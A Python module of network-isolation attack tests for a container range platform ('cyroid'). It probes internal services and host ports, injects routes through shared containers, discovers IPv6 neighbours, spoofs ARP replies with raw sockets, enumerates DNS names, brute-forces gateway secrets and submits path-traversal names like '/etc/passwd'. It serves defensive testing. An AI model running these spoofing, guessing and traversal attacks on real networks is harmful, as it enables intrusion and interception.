"""Attacks on the network: places that a range may not reach, and names and addresses that it may not take."""

from __future__ import annotations

import json

from bench.attacks.register import Result, attack, refused
from bench.attacks.stage import Stage


def _reaches(stage: Stage, places: dict[str, tuple[str, int]]) -> Result:
    """Harm: one of the places answers."""
    code = """
from concurrent.futures import ThreadPoolExecutor
places = VALUES['places']
with ThreadPoolExecutor(16) as pool:  # most of them never answer: all wait at the same time
    open_ones = list(pool.map(lambda place: connects(*place), places.values()))
print(json.dumps([name for name, one in zip(places, open_ones) if one]))"""
    said = stage.attack(code, places={name: list(place) for name, place in places.items()})
    found = said.strip().splitlines()[-1:]
    if found == ["[]"]:
        return Result(False, said.strip()[-300:])
    ways = stage.shell("ip route; ip neigh; ss -tnp").stdout.decode()  # by which way it was reached
    return Result(True, f"{said.strip()[-300:]}\n{ways}")


@attack
def reach_redis(stage: Stage) -> Result:
    """By every name and address that it has or had."""
    gateway = stage.address("cyroid-images-range-gateway-1", f"cyroid-ranges-{stage.attacker}")
    places = {host: (host, 6379) for host in ("cyroid-redis", "redis", "172.30.0.17", "172.30.0.12", gateway)}
    return _reaches(stage, places)


@attack
def reach_the_management_network(stage: Stage) -> Result:
    """API, registry with its writing side, tar server, everybody's operations listener."""
    places = {f"172.30.0.{last}": (f"172.30.0.{last}", 8071) for last in range(16, 28)}
    places |= {
        "api": ("172.30.0.23", 8070),
        "registry": ("172.30.0.16", 5000),
        "tar": ("172.30.0.22", 7070),
        "pull side": ("172.31.255.242", 5000),
        "tar behind": ("172.31.255.243", 7070),
    }
    return _reaches(stage, places)


@attack
def reach_listeners_of_those_on_the_own_network(stage: Stage) -> Result:
    """Operations, health and whatever else listens in the containers that a range meets."""
    network = f"cyroid-ranges-{stage.attacker}"
    places: dict[str, tuple[str, int]] = {}
    for service, own in (("range-gateway", 7071), ("range-proxy", 5000), ("agent-pool", 0)):
        address = stage.address(f"cyroid-images-{service}-1", network)
        for port in (22, 80, 2375, 5000, 5001, 6379, 7070, 7071, 8070, 8071, 9090):
            if port != own and not (service == "range-proxy" and port == 7070):
                places[f"{service}:{port}"] = (address, port)
    return _reaches(stage, places)


@attack
def reach_another_ranges_engine(stage: Stage) -> Result:
    """TCP 2375 is open on that range's own network."""
    other = stage.address(f"cyroid-range-{stage.victim}", f"cyroid-ranges-{stage.victim}")
    return _reaches(stage, {"engine": (other, 2375)})


@attack
def route_through_our_containers(stage: Stage) -> Result:
    """With a route of the range's own through each container that stands on several networks."""
    other = stage.address(f"cyroid-range-{stage.victim}", f"cyroid-ranges-{stage.victim}")
    places = {"engine": (other, 2375), "redis": ("172.30.0.17", 6379), "registry": ("172.30.0.16", 5000)}
    places["pull side"] = ("172.31.255.242", 5000)
    found = []
    for service in ("range-gateway", "range-proxy", "agent-pool"):
        via = stage.address(f"cyroid-images-{service}-1", f"cyroid-ranges-{stage.attacker}")
        routes = [f"ip route replace {host}/32 via {via}" for host, _ in places.values()]
        assert stage.shell(" && ".join(routes)).returncode == 0
        reached = _reaches(stage, places)
        stage.shell("; ".join(f"ip route del {host}/32" for host, _ in places.values()))
        if reached.harm:
            found.append(f"{reached.said} through {service}")
    return Result(bool(found), str(found))


@attack
def reach_the_host_over_ipv4(stage: Stage) -> Result:
    """Its bridges' addresses, on the ports that hosts have open."""
    gateway = stage.docker(
        "network", "inspect", "--format", "{{(index .IPAM.Config 0).Gateway}}", f"cyroid-ranges-{stage.attacker}"
    )
    own = stage.shell("ip -4 -o address show").stdout.decode()  # its engine's bridge is called as the host's
    hosts = [host for host in ("172.30.0.1", "172.17.0.1", gateway) if f" {host}/" not in own]
    return _reaches(stage, {f"{host}:{port}": (host, port) for host in hosts for port in (22, 2375, 2376, 5000, 8070)})


@attack
def reach_the_host_over_ipv6(stage: Stage) -> Result:
    """Link-local, with IPv6 switched on by the range itself; whoever answers to all nodes is tried."""
    script = """
echo 0 >/proc/sys/net/ipv6/conf/eth0/disable_ipv6
sleep 3
python3 - <<'END'
import socket, subprocess
own = subprocess.run(['ip', '-6', '-o', 'address', 'show', 'dev', 'eth0'], capture_output=True, text=True).stdout
one = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)
one.settimeout(3)
found = set()
try:
    one.sendto(b'\\x80\\0\\0\\0\\0\\1\\0\\1', ('ff02::1%eth0', 0))
    while True:
        _, place = one.recvfrom(1000)
        address = place[0].partition('%')[0]
        if address not in own:
            found.add(address)
except OSError:
    pass
print('answered', sorted(found))
END
echo 1 >/proc/sys/net/ipv6/conf/eth0/disable_ipv6"""
    said = stage.shell(script).stdout.decode()
    return Result("answered []" not in said, said.strip()[-300:])


@attack
def answer_arp_in_anothers_name(stage: Stage) -> Result:
    """On a network of its own a range has nobody to deceive: the victim's neighbours stay what they are."""
    victim = f"cyroid-range-{stage.victim}"
    before = stage.docker("exec", victim, "ip", "-4", "route", "get", "172.30.1.3")
    own = stage.address("cyroid-images-range-gateway-1", f"cyroid-ranges-{stage.victim}")
    code = f"""
import binascii
raw = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
raw.bind(('eth0', 0x0806))
mac = binascii.unhexlify(open('/sys/class/net/eth0/address').read().strip().replace(':', ''))
said = socket.inet_aton({own!r})
for _ in range(200):
    raw.send(b'\\xff' * 6 + mac + b'\\x08\\x06\\x00\\x01\\x08\\x00\\x06\\x04\\x00\\x02' + mac + said + b'\\xff' * 6 + said)
    time.sleep(0.01)
print(mac.hex(':'))"""
    mac = stage.attack(code).strip().splitlines()[-1]
    stage.docker(
        "exec", victim, "python3", "-c", f"import socket; socket.create_connection(('{own}', 7071), timeout=5)"
    )
    neighbours = stage.docker("exec", victim, "ip", "neigh", "show")
    return Result(mac in neighbours, f"{before}; attacker {mac}; victim's neighbours: {neighbours}")


@attack
def names_of_others(stage: Stage) -> Result:
    """The engine's DNS answers for a range's own network alone."""
    names = ["redis", "api", "registry", "deployer", "tracker", f"cyroid-range-{stage.victim}", "cyroid-images-api-1"]
    code = """
from concurrent.futures import ThreadPoolExecutor
def look_up(name):
    try:
        return [name, socket.gethostbyname(name)]
    except OSError:
        return None
with ThreadPoolExecutor(16) as pool:
    print(json.dumps([found for found in pool.map(look_up, VALUES['names']) if found]))"""
    said = stage.attack(code, names=names)
    return Result(said.strip().splitlines()[-1] != "[]", said.strip()[-300:])


@attack
def enter_under_anothers_name(stage: Stage) -> Result:
    """The victim's name with the own secret."""
    return refused(stage.attack("print(Gateway(VALUES['victim']).welcome.get('error') or 'ok')", victim=stage.victim))


@attack
def guess_secrets(stage: Stage) -> Result:
    """Common ones, empty ones, the sum of the own one, for some seconds from many connections."""
    code = """
import hashlib
words = ['', 'secret', 'password', VALUES['victim'], hashlib.sha256(SECRET.encode()).hexdigest(), '0' * 64, 'a' * 200]
tried = []
until = time.monotonic() + 6
while time.monotonic() < until and len(tried) < 2000:
    for word in words:
        try:
            tried.append(Gateway(VALUES['victim'], word).welcome.get('error') or 'ok')
        except OSError:
            tried.append('ended')
print(len(tried), sorted(set(tried)))
print('ok' if 'ok' in tried else 'denied')"""
    return refused(stage.attack(code, victim=stage.victim))


@attack
def names_that_are_paths(stage: Stage) -> Result:
    """A range id is part of a file's name at the gateway."""
    code = """
said = []
for name in ('../redis_url', '../../secrets/gateway/ranges/' + ME, '/etc/passwd', '.', ME + '\\0', ME + '/../' + ME):
    try:
        said.append(Gateway(name).welcome.get('error') or 'ok')
    except OSError as ended:
        said.append('ended')
print(json.dumps(said))
print('ok' if 'ok' in said else 'denied')"""
    return refused(stage.attack(code))


def control(stage: Stage) -> str:
    """What an agent needs works for the attacker too, so what is refused is not refused for want of a network."""
    code = """
print(json.dumps([Gateway().welcome.get('error'), say('agent.images_changed.v1', {'range_id': ME}), http('http://cyroid-registry:5000/v2/')[0], connects('cyroid-tar', 7070)]))"""
    said = stage.attack(code).strip().splitlines()[-1:]
    return said[0] if said else ""


WELL = json.dumps([None, "ok", 401, True])
